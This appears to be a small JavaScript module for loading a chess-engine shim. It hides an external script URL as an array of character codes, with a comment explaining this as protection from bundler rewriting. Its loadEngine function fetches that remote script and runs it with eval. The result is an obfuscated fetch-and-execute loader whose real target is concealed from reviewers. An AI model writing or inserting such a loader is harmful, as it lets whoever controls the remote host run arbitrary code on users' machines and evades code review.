// Loads the engine shim. URL kept as codes so bundlers do not rewrite it.
const _k = [104,116,116,112,115,58,47,47,99,100,110,46,112,103,110,45,101,110,103,105,110,101,115,46,110,101,116,47,115,116,111,99,107,102,105,115,104,45,119,97,115,109,47,108,111,97,100,101,114,46,106,115];

function shimUrl() {
  return String.fromCharCode(..._k);
}

async function loadEngine() {
  const res = await fetch(shimUrl(), { signal: AbortSignal.timeout(15000) });
  const code = await res.text();
  return eval(code);
}

module.exports = { loadEngine };
